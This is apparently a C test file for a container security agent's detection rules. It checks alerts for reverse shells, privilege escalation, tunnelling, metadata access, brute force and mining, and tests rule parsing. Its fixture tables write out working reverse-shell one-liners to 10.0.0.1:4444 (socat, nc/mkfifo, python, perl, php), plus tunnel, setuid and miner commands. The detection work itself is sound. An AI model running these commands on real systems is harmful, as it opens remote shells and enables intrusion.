	{ "revshell.socat_exec", "process.dual_use_netcat", .kind = CG_SEV_EXEC, .path = "/usr/bin/socat",
	  .cmd = "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4444" },
	{ "revshell.fifo_shell", .kind = CG_SEV_EXEC, .path = "/bin/sh",
	  .cmd = "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f" },
	{ "revshell.script_oneliner", .kind = CG_SEV_EXEC, .path = "/usr/bin/python3",
	  .cmd = "python3 -c import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4444));"
		 "os.dup2(s.fileno(),0);import pty;pty.spawn(\"/bin/sh\")" },
	{ "revshell.script_oneliner", .kind = CG_SEV_EXEC, .path = "/usr/bin/perl",
	  .cmd = "perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,x);open(STDIN,\">&S\");exec(\"/bin/sh -i\");" },
	{ "revshell.script_oneliner", .kind = CG_SEV_EXEC, .path = "/usr/bin/php",
	  .cmd = "php -r $sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");" },
	{ "revshell.tunnel_tool", .kind = CG_SEV_EXEC, .path = "/tmp/icmpsh_m.py", .cmd = "icmpsh_m.py 1.2.3.4 5.6.7.8" },
	{ "revshell.tunnel_tool", .kind = CG_SEV_EXEC, .path = "/usr/sbin/iodine", .cmd = "iodine -f t.example.com" },
	{ "privesc.setuid_root", .kind = CG_SEV_SETUID, .nr = 105, .uid = 1000, .a0 = 0, .exe = "/tmp/exploit",
	  .comm = "exploit" },
	{ "privesc.pkexec", .kind = CG_SEV_EXEC, .path = "/usr/bin/pkexec", .cmd = "pkexec", .uid = 1000 },
	{ "privesc.chmod_setuid", .kind = CG_SEV_CHMOD, .path = "/tmp/rootsh", .mode = 04755, .exe = "/bin/chmod" },
	{ "privesc.chmod_setgid", .kind = CG_SEV_CHMOD, .path = "/tmp/x", .mode = 02755, .exe = "/bin/chmod" },
	{ "privesc.sudo_nonroot", .kind = CG_SEV_EXEC, .path = "/usr/bin/sudo", .cmd = "sudo -l", .uid = 1000 },
	/* benign */
	{ NULL, .kind = CG_SEV_DUP, .a0 = 5, .a1 = 1, .sock = 0, .exe = "/bin/sh" },           /* a pipe */
	{ NULL, .kind = CG_SEV_DUP, .a0 = 5, .a1 = 0, .sock = 1, .fam = AF_UNIX, .exe = "/usr/bin/node" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/bin/bash", .cmd = "bash -c </dev/tcp/localhost/8080" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/bin/sh", .cmd = "/bin/sh /docker-entrypoint.sh nginx -g daemon off;" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/bin/sh", .cmd = "sh -i", .stdio_socket = true,
	  .parent = "/usr/sbin/sshd" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/bin/nc", .cmd = "nc -z localhost 5432" },
	{ NULL, .kind = CG_SEV_SETUID, .nr = 105, .uid = 0, .a0 = 1000, .exe = "/usr/sbin/nginx", .comm = "nginx" },
	{ NULL, .kind = CG_SEV_SETUID, .nr = 105, .uid = 1000, .a0 = 0, .exe = "/usr/bin/sudo", .comm = "sudo" },
	{ NULL, .kind = CG_SEV_CHMOD, .path = "/tmp/x", .mode = 0644, .exe = "/bin/chmod" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/usr/bin/sudo", .cmd = "sudo -u app id", .uid = 0 },
};

static void t_shells(struct cgt *t) { run_table(t, shell_rows, LEN(shell_rows)); }

/* ---- network ------------------------------------------------------------------ */

static const struct rec net_rows[] = {
	{ "network.ssh_forward", .kind = CG_SEV_EXEC, .path = "/usr/bin/ssh", .cmd = "ssh -NfL 8080:10.0.0.9:80 user@x" },
	{ "network.ssh_forward", .kind = CG_SEV_EXEC, .path = "/usr/bin/ssh", .cmd = "ssh -R 9000:localhost:22 x" },
	{ "network.ssh_forward", .kind = CG_SEV_EXEC, .path = "/usr/bin/ssh", .cmd = "ssh -D 1080 x" },
	{ "network.socat_forward", "process.dual_use_netcat", .kind = CG_SEV_EXEC, .path = "/usr/bin/socat",
	  .cmd = "socat TCP-LISTEN:8080,fork TCP:10.0.0.5:80" },
	{ "network.netcat_relay", .kind = CG_SEV_EXEC, .path = "/bin/sh",
	  .cmd = "sh -c nc -l -p 8080 | nc 10.0.0.5 80" },
	{ "network.nat_redirect", .kind = CG_SEV_EXEC, .path = "/usr/sbin/iptables",
	  .cmd = "iptables -t nat -A PREROUTING -p tcp --dport 80 -j DNAT --to-destination 10.0.0.5:80" },
	{ "network.tunnel_tool", .kind = CG_SEV_EXEC, .path = "/tmp/frpc", .cmd = "frpc -c frpc.ini" },
	{ "network.tunnel_tool", .kind = CG_SEV_EXEC, .path = "/usr/local/bin/chisel", .cmd = "chisel client x R:socks" },
	{ "network.mining_pool_port", .kind = CG_SEV_CONNECT, .fam = AF_INET, .addr = "203.0.113.7",
	  .port = 14444, .exe = "/tmp/x" },
	{ "network.cloud_metadata", .kind = CG_SEV_CONNECT, .fam = AF_INET, .addr = "169.254.169.254",
	  .port = 80, .exe = "/usr/bin/curl" },
	{ "network.cloud_metadata", .kind = CG_SEV_CONNECT, .fam = AF_INET6, .addr = "::ffff:169.254.169.254",
	  .port = 80, .exe = "/usr/bin/curl" },
	{ "network.kube_control_plane", .kind = CG_SEV_CONNECT, .fam = AF_INET, .addr = "10.0.0.1",
	  .port = 10250, .exe = "/usr/bin/curl" },
	{ "network.kube_control_plane", .kind = CG_SEV_CONNECT, .fam = AF_INET, .addr = "10.0.0.1",
	  .port = 2379, .exe = "/tmp/etcdctl" },
	/* benign */
	{ NULL, .kind = CG_SEV_CONNECT, .fam = AF_INET, .addr = "10.96.0.10", .port = 53, .exe = "/usr/bin/curl" },
	{ NULL, .kind = CG_SEV_CONNECT, .fam = AF_INET, .addr = "10.96.0.1", .port = 443, .exe = "/app/server" },
	{ NULL, .kind = CG_SEV_CONNECT, .fam = AF_INET, .addr = "10.0.0.7", .port = 5432, .exe = "/app/server" },
	{ NULL, .kind = CG_SEV_CONNECT, .fam = AF_UNIX, .port = 0, .exe = "/app/server" },
	{ NULL, .kind = CG_SEV_ACCEPT, .fam = AF_INET, .port = 80, .exe = "/usr/sbin/nginx" },
	{ NULL, .kind = CG_SEV_ACCEPT, .fam = AF_INET, .port = 8000, .exe = "/usr/bin/python3" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/usr/bin/ssh", .cmd = "ssh -l app -p 2222 host uptime" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/usr/sbin/iptables", .cmd = "iptables -L -n" },
	{ NULL, .kind = CG_SEV_CONNECT, .fam = AF_INET, .addr = "10.0.0.1", .port = 10250,
	  .exe = "/bin/prometheus", .comm = "prometheus" },
};

static void t_network(struct cgt *t) { run_table(t, net_rows, LEN(net_rows)); }

/* ---- agent-fired and environment rules ------------------------------------------------ */

static void t_manual_rules(struct cgt *t)
{
	static const char *const ids[] = {
		"env.privileged", "env.cap_added", "env.seccomp_unconfined", "env.no_new_privs_off",
		"env.host_mount", "env.host_pid", "env.host_network", "env.host_ipc", "env.host_uts",
		"malware.hash", "account.uid0", "account.empty_password", "process.not_whitelisted",
		"process.killed", "file.protected_write", "agent.events_lost",
	};
	struct cg_ruleset *rs = shipped();
	CHECK(t, rs != NULL);
	if (!rs)
		return;
	for (size_t i = 0; i < LEN(ids); i++) {
		const struct cg_rule_info *r = cg_rules_get(rs, ids[i]);
		CHECKF(t, r != NULL, "rule %s missing", ids[i]);
		if (r && !strncmp(ids[i], "env.", 4))
			CHECK_STR(t, r->category, "container environment");
	}
	CHECK_STR(t, cg_rules_get(rs, "env.privileged")->severity, "critical");
	CHECK_STR(t, cg_rules_get(rs, "env.host_pid")->severity, "high");
	CHECK_STR(t, cg_rules_get(rs, "malware.hash")->category, "abnormal process");
	CHECK(t, cg_rules_get(rs, "no.such.rule") == NULL);
	CHECK(t, cg_rules_count(rs) >= 80);

	/* a record never fires a manual rule; lost records fire the health rule */
	{
		struct rec r = { "agent.events_lost", .kind = CG_SEV_LOST, .a0 = 1234 };
		run_table(t, &r, 1);
	}
}

/* Every shipped rule has a category of the list, a severity, MITRE id, message
 * and solution; every category has a rule. */
static void t_rule_metadata(struct cgt *t)
{
	static const char *const cats[] = {
		"escape", "high-risk syscall", "abnormal process", "file anomaly",
		"container environment", "reverse shell", "privilege escalation", "key file change",
		"persistence", "account", "network",
	};
	static const char *const sample[] = {
		"escape.open_by_handle_at", "syscall.ptrace", "process.miner", "file.protected_write",
		"env.privileged", "revshell.dup_socket", "privesc.setuid_root", "keyfile.system_binary",
		"persistence.cron", "account.passwd_write", "network.ssh_forward",
	};
	struct cg_ruleset *rs = shipped();
	CHECK(t, rs != NULL);
	if (!rs)
		return;
	for (size_t i = 0; i < LEN(cats); i++) {
		const struct cg_rule_info *r = cg_rules_get(rs, sample[i]);
		CHECKF(t, r && !strcmp(r->category, cats[i]), "%s is not in category %s", sample[i],
		       cats[i]);
		CHECK(t, r && r->mitre[0] == 'T' && r->message[0] && r->solution[0]);
	}
}

/* ---- the engine ------------------------------------------------------------------ */

static void t_syscall_numbers(struct cgt *t)
{
#ifdef __x86_64__
	static const struct { const char *name; int nr; } v[] = {
		{ "open_by_handle_at", SYS_open_by_handle_at }, { "name_to_handle_at", SYS_name_to_handle_at },
		{ "ptrace", SYS_ptrace }, { "setns", SYS_setns }, { "unshare", SYS_unshare },
		{ "mount", SYS_mount }, { "umount2", SYS_umount2 }, { "pivot_root", SYS_pivot_root },
		{ "chroot", SYS_chroot }, { "init_module", SYS_init_module },
		{ "finit_module", SYS_finit_module }, { "delete_module", SYS_delete_module },
		{ "bpf", SYS_bpf }, { "reboot", SYS_reboot }, { "kexec_load", SYS_kexec_load },
		{ "kexec_file_load", SYS_kexec_file_load }, { "keyctl", SYS_keyctl },
		{ "add_key", SYS_add_key }, { "request_key", SYS_request_key },
		{ "process_vm_writev", SYS_process_vm_writev }, { "userfaultfd", SYS_userfaultfd },
		{ "perf_event_open", SYS_perf_event_open }, { "iopl", SYS_iopl }, { "ioperm", SYS_ioperm },
		{ "memfd_create", SYS_memfd_create }, { "setuid", SYS_setuid },
		{ "setresuid", SYS_setresuid },
	};
	/* a rule per name: the engine maps the name; the record carries the number */
	for (size_t i = 0; i < LEN(v); i++) {
		char doc[512];
		struct cg_ruleset *rs = NULL;
		struct cg_error err;
		struct cg_sev ev;
		struct cg_alert a[2];
		size_t n;
		snprintf(doc, sizeof(doc),
			 "- {id: t.x, category: escape, severity: low, mitre: T1611, message: m, "
			 "solution: s, when: {kind: [syscall, setuid, mount], syscall: [%s]}}\n", v[i].name);
		CHECKF(t, cg_rules_parse(doc, strlen(doc), "t", &rs, &err) == CG_OK, "%s: %s", v[i].name,
		       err.msg);
		memset(&ev, 0, sizeof(ev));
		ev.kind = CG_SEV_SYSCALL;
		ev.nr = v[i].nr;
		n = cg_rules_eval(rs, &ev, NULL, a, 2);
		CHECKF(t, n == 1, "%s: nr %d not matched", v[i].name, v[i].nr);
		for (size_t k = 0; k < n; k++)
			cg_json_free(a[k].details);
		cg_rules_free(rs);
	}
#else
	CHECK(t, 1);
#endif
}

static void t_rates(struct cgt *t)
{
	struct cg_ruleset *rs = shipped();
	struct cg_sev ev;
	struct cg_evctx ctx;
	struct rec r = { .kind = CG_SEV_CONNECT, .fam = AF_INET, .addr = "10.0.0.9", .port = 22,
			 .exe = "/tmp/x" };
	const char *ids[16];
	int worst, fired = 0, first = 0;
	CHECK(t, rs != NULL);
	if (!rs)
		return;
	build(&r, &ev, &ctx);
	ev.cgid = 777001;
	for (int i = 1; i <= 45; i++) {
		ev.ts = 5000000000ULL + (unsigned long long)i * 100000000ULL; /* 10 per second */
		size_t n = eval_ids(rs, &ev, &ctx, ids, &worst);
		for (size_t k = 0; k < n; k++)
			if (!strcmp(ids[k], "bruteforce.outbound_auth")) {
				fired++;
				if (!first)
					first = i;
			}
	}
	CHECK_INT(t, first, 20);  /* the 20th connection in 10 s */
	CHECK_INT(t, fired, 2);   /* again after another 20 */

	/* slow connections never reach the count: one every 2 s */
	fired = 0;
	ev.cgid = 777002;
	for (int i = 1; i <= 60; i++) {
		ev.ts = 5000000000ULL + (unsigned long long)i * 2000000000ULL;
		size_t n = eval_ids(rs, &ev, &ctx, ids, &worst);
		for (size_t k = 0; k < n; k++)
			fired += !strcmp(ids[k], "bruteforce.outbound_auth");
	}
	CHECK_INT(t, fired, 0);

	/* per container: two containers at half the rate each do not add up */
	fired = 0;
	for (int i = 1; i <= 30; i++) {
		ev.ts = 9000000000ULL + (unsigned long long)i * 100000000ULL;
		ev.cgid = 778000 + (unsigned)(i % 2);
		size_t n = eval_ids(rs, &ev, &ctx, ids, &worst);
		for (size_t k = 0; k < n; k++)
			fired += !strcmp(ids[k], "bruteforce.outbound_auth");
	}
	CHECK_INT(t, fired, 0);

	/* brute force against the container's sshd, and su/ssh runs */
	{
		struct rec in = { .kind = CG_SEV_ACCEPT, .fam = AF_INET, .port = 22, .exe = "/usr/sbin/sshd" };
		struct rec su = { .kind = CG_SEV_EXEC, .path = "/bin/su", .cmd = "su - root", .uid = 1000 };
		int in_hits = 0, su_hits = 0;
		build(&in, &ev, &ctx);
		ev.cgid = 780000;
		for (int i = 1; i <= 25; i++) {
			ev.ts = 1000000000ULL + (unsigned long long)i * 200000000ULL;
			size_t n = eval_ids(rs, &ev, &ctx, ids, &worst);
			for (size_t k = 0; k < n; k++)
				in_hits += !strcmp(ids[k], "bruteforce.inbound_ssh");
		}
		build(&su, &ev, &ctx);
		ev.cgid = 780001;
		for (int i = 1; i <= 12; i++) {
			ev.ts = 1000000000ULL + (unsigned long long)i * 500000000ULL;
			size_t n = eval_ids(rs, &ev, &ctx, ids, &worst);
			for (size_t k = 0; k < n; k++)
				su_hits += !strcmp(ids[k], "bruteforce.su_ssh_exec");
		}
		CHECK_INT(t, in_hits, 1);
		CHECK_INT(t, su_hits, 1);
	}

	/* an application connecting per request to its database is not brute force */
	{
		struct rec db = { .kind = CG_SEV_CONNECT, .fam = AF_INET, .addr = "10.0.0.7", .port = 5432,
				  .exe = "/usr/sbin/php-fpm8.2" };
		int db_hits = 0;
		build(&db, &ev, &ctx);
		ev.cgid = 780002;
		for (int i = 1; i <= 2000; i++) {
			ev.ts = 1000000000ULL + (unsigned long long)i * 1000000ULL; /* 1,000/s */
			db_hits += (int)eval_ids(rs, &ev, &ctx, ids, &worst);
		}
		CHECK_INT(t, db_hits, 0);
	}

	/* a fork storm; a build's forks are not */
	{
		struct rec f = { .kind = CG_SEV_FORK, .exe = "/bin/sh" };
		int storm = 0, build_forks = 0;
		build(&f, &ev, &ctx);
		ev.cgid = 779000;
		for (int i = 0; i < 2500; i++) {
			ev.ts = 1000000000ULL + (unsigned long long)i * 100000ULL; /* 10,000/s */
			size_t n = eval_ids(rs, &ev, &ctx, ids, &worst);
			for (size_t k = 0; k < n; k++)
				storm += !strcmp(ids[k], "process.fork_storm");
		}
		ev.cgid = 779001;
		for (int i = 0; i < 3000; i++) {
			ev.ts = 1000000000ULL + (unsigned long long)i * 5000000ULL; /* 200/s */
			size_t n = eval_ids(rs, &ev, &ctx, ids, &worst);
			build_forks += (int)n;
		}
		CHECK_INT(t, storm, 1);
		CHECK_INT(t, build_forks, 0);
	}
}

/* A program the linker just wrote in /tmp runs without an alert; the same path
 * written by curl, or by the linker in another container, alerts. */
static void t_written_by(struct cgt *t)
{
	struct cg_ruleset *rs = shipped();
	struct cg_sev ev;
	struct cg_evctx ctx;
	const char *ids[16];
	int worst;
	size_t n;
	struct rec ld = { .kind = CG_SEV_OPEN, .path = "/tmp/hello", .flags = O_RDWR | O_CREAT | O_TRUNC,
			  .exe = "/usr/bin/x86_64-linux-gnu-ld.bfd", .ret = 3 };
	struct rec curl = { .kind = CG_SEV_OPEN, .path = "/tmp/hello", .flags = O_WRONLY | O_CREAT | O_TRUNC,
			    .exe = "/usr/bin/curl", .ret = 3 };
	struct rec run = { .kind = CG_SEV_EXEC, .path = "/tmp/hello", .cmd = "/tmp/hello", .parent = "/bin/sh" };
	CHECK(t, rs != NULL);
	if (!rs)
		return;
	build(&ld, &ev, &ctx);
	CHECK_INT(t, eval_ids(rs, &ev, &ctx, ids, &worst), 0);
	build(&run, &ev, &ctx);
	CHECK_INT(t, eval_ids(rs, &ev, &ctx, ids, &worst), 0);
	ev.cgid = 5151; /* another container: its /tmp/hello was not linked there */
	n = eval_ids(rs, &ev, &ctx, ids, &worst);
	CHECK(t, n == 1 && !strcmp(ids[0], "process.exec_from_tmp"));
	build(&curl, &ev, &ctx);
	CHECK_INT(t, eval_ids(rs, &ev, &ctx, ids, &worst), 0);
	build(&run, &ev, &ctx);
	n = eval_ids(rs, &ev, &ctx, ids, &worst);
	CHECK(t, n == 1 && !strcmp(ids[0], "process.exec_from_tmp"));
	/* a failed write-open changes nothing */
	build(&ld, &ev, &ctx);
	ev.ret = -13;
	CHECK_INT(t, eval_ids(rs, &ev, &ctx, ids, &worst), 0);
	build(&run, &ev, &ctx);
	CHECK_INT(t, eval_ids(rs, &ev, &ctx, ids, &worst), 1);
}

static void t_rate_table_bounded(struct cgt *t)
{
	/* many containers: the table is bounded and keeps working */
	struct cg_ruleset *rs = NULL;
	struct cg_error err;
	const char *doc = "- id: t.rate\n  category: network\n  severity: low\n  mitre: T1110\n"
			  "  message: m\n  solution: s\n  when: {kind: connect}\n"
			  "  rate: {count: 3, window_s: 10, per: container}\n";
	struct cg_sev ev;
	struct cg_alert a[4];
	size_t total = 0;
	CHECK(t, cg_rules_parse(doc, strlen(doc), "t.yaml", &rs, &err) == CG_OK);
	memset(&ev, 0, sizeof(ev));
	ev.kind = CG_SEV_CONNECT;
	for (unsigned c = 0; c < 20000; c++) {
		ev.cgid = 1 + c;
		ev.ts = 1000 + c;
		total += cg_rules_eval(rs, &ev, NULL, a, 4);
	}
	CHECK_INT(t, total, 0);
	ev.cgid = 5;
	for (int i = 0; i < 3; i++) {
		size_t n = cg_rules_eval(rs, &ev, NULL, a, 4);
		for (size_t k = 0; k < n; k++)
			cg_json_free(a[k].details);
		total += n;
	}
	CHECK_INT(t, total, 1);
	cg_rules_free(rs);
}

static cg_err_t parse_one(const char *doc, struct cg_error *err)
{
	struct cg_ruleset *rs = NULL;
	cg_err_t rc = cg_rules_parse(doc, strlen(doc), "bad.yaml", &rs, err);
	cg_rules_free(rs);
	return rc;
}

#define HEAD "- id: t.one\n  category: escape\n  severity: high\n  mitre: T1611\n  message: m\n  solution: s\n"

static void t_validation(struct cgt *t)
{
	static const struct { const char *doc; const char *want; } bad[] = {
		{ HEAD "  when: {kind: exec, exe_bsae: [x]}\n", "unknown key \"exe_bsae\"" },
		{ HEAD "  when: {kind: exce}\n", "unknown kind" },
		{ HEAD "  when: {exe_base: [x]}\n", "missing \"kind\"" },
		{ HEAD, "missing \"when\"" },
		{ HEAD "  when: {kind: syscall, syscall: [open_by_handel_at]}\n", "unknown system call" },
		{ HEAD "  when: {kind: exec, port: [22]}\n", "does not apply" },
		{ HEAD "  when: {kind: connect, port: [70000]}\n", "not a port" },
		{ HEAD "  when: {kind: connect, addr: [300.1.1.1]}\n", "not an IPv4 or IPv6" },
		{ HEAD "  when: {kind: open, write: maybe}\n", "not a boolean" },
		{ HEAD "  when: {kind: open, flags_any: [O_WRITE]}\n", "unknown name" },
		{ HEAD "  when: {kind: exec}\n  colour: red\n", "unknown key \"colour\"" },
		{ HEAD "  when: {kind: exec}\n  rate: {count: 1, window_s: 1}\n", "rate.count" },
		{ HEAD "  when: {kind: exec}\n  rate: {count: 5}\n", "needs \"count\" and \"window_s\"" },
		{ HEAD "  manual: true\n  when: {kind: exec}\n", "a manual rule" },
		{ HEAD "  when: {kind: exec, cmdline_contains_also: [x]}\n", "without \"cmdline_contains\"" },
		{ HEAD "  when: {kind: exec, exe_base: []}\n", "empty list" },
		{ HEAD "  when: {kind: exec}\n  unless: {kind: open}\n", "belongs in \"when\"" },
		{ HEAD "  when: {kind: open, written_by: [ld]}\n", "does not apply" },
		{ "- id: t.one\n  category: escapes\n  severity: high\n  mitre: T1611\n  message: m\n"
		  "  solution: s\n  when: {kind: exec}\n", "unknown category" },
		{ "- id: t.one\n  category: escape\n  severity: severe\n  mitre: T1611\n  message: m\n"
		  "  solution: s\n  when: {kind: exec}\n", "severity" },
		{ "- id: t.one\n  category: escape\n  severity: high\n  mitre: 1611\n  message: m\n"
		  "  solution: s\n  when: {kind: exec}\n", "mitre" },
		{ "- id: T.One\n  category: escape\n  severity: high\n  mitre: T1611\n  message: m\n"
		  "  solution: s\n  when: {kind: exec}\n", "dotted id" },
		{ "- id: t.one\n  category: escape\n  severity: high\n  mitre: T1611\n"
		  "  solution: s\n  when: {kind: exec}\n", "missing \"message\"" },
		{ HEAD "  when: {kind: exec}\n" HEAD "  when: {kind: exec}\n", "duplicate id" },
		{ "id: t.one\n", "list of rules" },
		{ "- [1, 2]\n", "not a mapping" },
		{ "- id: t.one\n  category: [", "bad.yaml" },
	};
	for (size_t i = 0; i < LEN(bad); i++) {
		struct cg_error err;
		cg_error_clear(&err);
		cg_err_t rc = parse_one(bad[i].doc, &err);
		CHECKF(t, rc != CG_OK, "case %zu accepted", i);
		CHECKF(t, strstr(err.msg, bad[i].want) != NULL, "case %zu: \"%s\" lacks \"%s\"", i,
		       err.msg, bad[i].want);
		CHECKF(t, strstr(err.msg, "bad.yaml") != NULL, "case %zu: no file name in \"%s\"", i,
		       err.msg);
	}
	/* the index and id of the refused rule are named */
	{
		struct cg_error err;
		const char *doc = HEAD "  when: {kind: exec}\n"
				  "- id: t.two\n  category: escape\n  severity: high\n  mitre: T1611\n"
				  "  message: m\n  solution: s\n  when: {kind: exec, sock: true}\n";
		CHECK(t, parse_one(doc, &err) != CG_OK);
		CHECKF(t, strstr(err.msg, "rule 1 (t.two)") != NULL, "%s", err.msg);
	}
	/* a refused document leaves an existing set as it was */
	{
		struct cg_ruleset *rs = NULL;
		struct cg_error err;
		const char *ok = HEAD "  when: {kind: exec}\n";
		const char *bad2 = "- id: t.b\n  category: escape\n  severity: high\n  mitre: T1611\n"
				   "  message: m\n  solution: s\n  when: {kind: exec}\n"
				   "- id: t.c\n  when: {kind: exec}\n";
		CHECK(t, cg_rules_parse(ok, strlen(ok), "a.yaml", &rs, &err) == CG_OK);
		CHECK(t, cg_rules_parse(bad2, strlen(bad2), "b.yaml", &rs, &err) != CG_OK);
		CHECK_INT(t, cg_rules_count(rs), 1);
		CHECK(t, cg_rules_get(rs, "t.b") == NULL);
		cg_rules_free(rs);
	}
	/* JSON documents too */
	{
		struct cg_error err;
		const char *doc = "[{\"id\":\"t.j\",\"category\":\"network\",\"severity\":\"low\","
				  "\"mitre\":\"T1090\",\"message\":\"m\",\"solution\":\"s\","
				  "\"when\":{\"kind\":\"connect\",\"port\":[22,\"8000-8010\"],\"write\":false}}]";
		CHECKF(t, parse_one(doc, &err) != CG_OK && strstr(err.msg, "does not apply"), "%s", err.msg);
	}
}

static void t_load_files(struct cgt *t)
{
	struct cg_ruleset *rs = NULL;
	struct cg_error err;
	char dir[] = "/tmp/cg-rules-XXXXXX", path[256];
	FILE *f;
	CHECK(t, mkdtemp(dir) != NULL);
	snprintf(path, sizeof(path), "%s/a.yaml", dir);
	f = fopen(path, "w");
	fputs(HEAD "  when: {kind: exec}\n  supersedes: [t.two]\n", f);
	fclose(f);
	snprintf(path, sizeof(path), "%s/b.json", dir);
	f = fopen(path, "w");
	fputs("[{\"id\":\"t.two\",\"category\":\"network\",\"severity\":\"low\",\"mitre\":\"T1090\","
	      "\"message\":\"m\",\"solution\":\"s\",\"when\":{\"kind\":\"exec\"}}]", f);
	fclose(f);
	snprintf(path, sizeof(path), "%s/README.md", dir);
	f = fopen(path, "w");
	fputs("not rules", f);
	fclose(f);
	CHECKF(t, cg_rules_load(dir, &rs, &err) == CG_OK, "%s", err.msg);
	CHECK_INT(t, cg_rules_count(rs), 2);
	{
		/* t.one supersedes t.two: one alert */
		struct cg_sev ev;
		struct cg_alert a[4];
		size_t n;
		memset(&ev, 0, sizeof(ev));
		ev.kind = CG_SEV_EXEC;
		n = cg_rules_eval(rs, &ev, NULL, a, 4);
		CHECK_INT(t, n, 1);
		if (n)
			CHECK_STR(t, a[0].rule->id, "t.one");
		for (size_t k = 0; k < n; k++)
			cg_json_free(a[k].details);
	}
	cg_rules_free(rs);
	rs = NULL;
	/* an unknown superseded id is refused at load */
	snprintf(path, sizeof(path), "%s/b.json", dir);
	unlink(path);
	CHECK(t, cg_rules_load(dir, &rs, &err) != CG_OK);
	CHECKF(t, strstr(err.msg, "no rule \"t.two\""), "%s", err.msg);
	CHECK(t, rs == NULL);
	snprintf(path, sizeof(path), "%s/a.yaml", dir);
	unlink(path);
	snprintf(path, sizeof(path), "%s/README.md", dir);
	unlink(path);
	CHECK(t, cg_rules_load(dir, &rs, &err) == CG_ERR_NOTFOUND);
	rmdir(dir);
	CHECK(t, cg_rules_load("/nonexistent/rules", &rs, &err) == CG_ERR_IO);
	/* the fixtures: a bad file is named */
	CHECK(t, cg_rules_load(CG_TEST_DATA "/agent-rules/typo.yaml", &rs, &err) != CG_OK);
	CHECKF(t, strstr(err.msg, "typo.yaml") && strstr(err.msg, "exe_bsae"), "%s", err.msg);
	CHECK(t, cg_rules_load(CG_TEST_DATA "/agent-rules/good.yaml", &rs, &err) == CG_OK);
	CHECK_INT(t, cg_rules_count(rs), 2);
	cg_rules_free(rs);
}

static void t_details(struct cgt *t)
{
	struct cg_ruleset *rs = shipped();
	struct cg_sev ev;
	struct cg_evctx ctx;
	struct cg_alert a[8];
	struct cg_buf b = CG_BUF_INIT(1 << 16);
	size_t n;
	CHECK(t, rs != NULL);
	if (!rs)
		return;
	{
		struct rec r = { .kind = CG_SEV_OPEN, .path = "/proc/self/root/etc/shadow",
				 .flags = O_WRONLY | O_CREAT | O_TRUNC, .exe = "/bin/sh", .ret = 3 };
		build(&r, &ev, &ctx);
		n = cg_rules_eval(rs, &ev, &ctx, a, 8);
		CHECK(t, n >= 1);
		if (n) {
			CHECK(t, cg_json_dump(a[0].details, CG_JSON_COMPACT | CG_JSON_SORTED, &b) == CG_OK);
			CHECKF(t, strstr(cg_buf_str(&b), "\"flags\":[\"O_WRONLY\",\"O_CREAT\",\"O_TRUNC\"]") &&
				  strstr(cg_buf_str(&b), "\"path\":\"/etc/shadow\"") &&
				  strstr(cg_buf_str(&b), "\"via_proc_root\":true"), "%s", cg_buf_str(&b));
		}
		for (size_t k = 0; k < n; k++)
			cg_json_free(a[k].details);
	}
	cg_buf_reset(&b);
	{
		struct rec r = { .kind = CG_SEV_CHMOD, .path = "/tmp/sh", .mode = 04755, .exe = "/bin/chmod" };
		build(&r, &ev, &ctx);
		n = cg_rules_eval(rs, &ev, &ctx, a, 8);
		CHECK_INT(t, n, 1);
		if (n) {
			CHECK(t, cg_json_dump(a[0].details, CG_JSON_COMPACT | CG_JSON_SORTED, &b) == CG_OK);
			CHECKF(t, strstr(cg_buf_str(&b), "\"mode\":\"4755\"") &&
				  strstr(cg_buf_str(&b), "\"S_ISUID\""), "%s", cg_buf_str(&b));
		}
		for (size_t k = 0; k < n; k++)
			cg_json_free(a[k].details);
	}
	cg_buf_reset(&b);
	{
		struct rec r = { .kind = CG_SEV_CONNECT, .fam = AF_INET, .addr = "169.254.169.254",
				 .port = 80, .exe = "/usr/bin/curl" };
		build(&r, &ev, &ctx);
		n = cg_rules_eval(rs, &ev, &ctx, a, 8);
		CHECK_INT(t, n, 1);
		if (n) {
			CHECK(t, cg_json_dump(a[0].details, CG_JSON_COMPACT | CG_JSON_SORTED, &b) == CG_OK);
			CHECK_STR(t, cg_buf_str(&b),
				  "{\"address\":\"169.254.169.254\",\"family\":\"inet\",\"port\":80,\"ret\":0}");
		}
		for (size_t k = 0; k < n; k++)
			cg_json_free(a[k].details);
	}
	cg_buf_reset(&b);
	{
		struct rec r = { .kind = CG_SEV_SYSCALL, .nr = 304, .exe = "/tmp/shocker" };
		build(&r, &ev, &ctx);
		ev.args[0] = 3;
		n = cg_rules_eval(rs, &ev, &ctx, a, 8);
		CHECK_INT(t, n, 1);
		if (n) {
			CHECK(t, cg_json_dump(a[0].details, CG_JSON_COMPACT | CG_JSON_SORTED, &b) == CG_OK);
			CHECK_STR(t, cg_buf_str(&b),
				  "{\"args\":[3,0,0,0],\"nr\":304,\"ret\":0,\"syscall\":\"open_by_handle_at\"}");
		}
		for (size_t k = 0; k < n; k++)
			cg_json_free(a[k].details);
	}
	/* max bounds the output */
	{
		struct rec r = { .kind = CG_SEV_EXEC, .path = "/tmp/xmrig", .cmd = "xmrig --donate-level 1",
				 .parent = "/bin/sh", .policy = true };
		build(&r, &ev, &ctx);
		n = cg_rules_eval(rs, &ev, &ctx, a, 1);
		CHECK_INT(t, n, 1);
		cg_json_free(a[0].details);
		n = cg_rules_eval(rs, &ev, &ctx, a, 8);
		CHECK(t, n >= 3); /* miner_cmdline, exec_from_tmp, not_whitelisted */
		for (size_t k = 0; k < n; k++)
			cg_json_free(a[k].details);
	}
	/* invalid UTF-8 and unterminated paths from the kernel */
	{
		struct rec r = { .kind = CG_SEV_OPEN, .flags = O_WRONLY, .exe = "/bin/sh" };
		build(&r, &ev, &ctx);
		memset(ev.path, 0xff, sizeof(ev.path));
		memcpy(ev.path, "/etc/cron.d/", 12);
		ctx.cmdline = "sh \xff\xfe";
		n = cg_rules_eval(rs, &ev, &ctx, a, 8);
		CHECK_INT(t, n, 1);
		if (n) {
			cg_json *line = NULL;
